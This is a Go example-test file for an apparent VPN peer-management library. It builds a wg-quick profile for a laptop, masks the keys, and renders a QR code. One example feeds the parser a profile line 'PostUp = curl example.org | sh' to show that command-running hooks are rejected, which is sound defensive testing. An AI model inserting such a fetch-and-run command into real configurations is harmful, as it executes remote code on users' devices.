package peer_test

import (
	"context"
	"fmt"
	"net/netip"
	"strings"

	"github.com/holdfastvpn/holdfast/location"
	"github.com/holdfastvpn/holdfast/location/locationtest"
	"github.com/holdfastvpn/holdfast/peer"
	"github.com/holdfastvpn/holdfast/peer/peertest"
	"github.com/holdfastvpn/holdfast/vpn/seal"
	"github.com/holdfastvpn/holdfast/vpn/wgkey"
)

// From a location to what a client needs.
func Example() {
	ctx := context.Background()
	must := func(err error) {
		if err != nil {
			panic(err)
		}
	}
	stored := locationtest.NewStore() // or a real one
	locations, err := location.NewService(location.ServiceConfig{Store: stored, Keys: seal.Ephemeral()})
	must(err)
	office, err := locations.Create(ctx, location.Location{
		Name: "office", Host: "vpn.example.org", Networks: []netip.Prefix{netip.MustParsePrefix("10.20.0.0/16")},
	})
	must(err)

	devices, err := peer.NewService(peer.ServiceConfig{Store: peertest.NewStore(), Locations: stored})
	must(err)
	key := wgkey.NewPrivate() // made on the device, and never leaves it
	laptop, err := devices.Add(ctx, peer.NewDevice{
		Name: "laptop", Owner: "alice", Key: key.Public(), Places: []peer.Place{{Location: office.ID}},
	})
	must(err)

	profile, err := peer.NewProfile(office, laptop)
	must(err)
	text := profile.WGQuick(key)
	text = strings.NewReplacer(key.RevealText(), "(the laptop's)", office.PublicKey.String(), "(the office's)").Replace(text)
	fmt.Print(text)
	// Output:
	// [Interface]
	// PrivateKey = (the laptop's)
	// Address = 10.20.0.2/32
	// MTU = 1420
	//
	// [Peer]
	// PublicKey = (the office's)
	// AllowedIPs = 10.20.0.0/16
	// Endpoint = vpn.example.org:51820
	// PersistentKeepalive = 25
}

func ExampleParseWGQuick() {
	_, _, err := peer.ParseWGQuick("[Interface]\nAddress = 10.20.0.7\nPostUp = curl example.org | sh\n")
	fmt.Println(err)
	// Output: peer: wg-quick text: line 3: postup: runs a command, which a profile may not: remove the line
}

func ExampleQR() {
	code, err := peer.QR("HOLDFAST")
	if err != nil {
		panic(err)
	}
	fmt.Println(code.Size(), "modules on a side;", code)
	// Output: 21 modules on a side; (QR code)
}
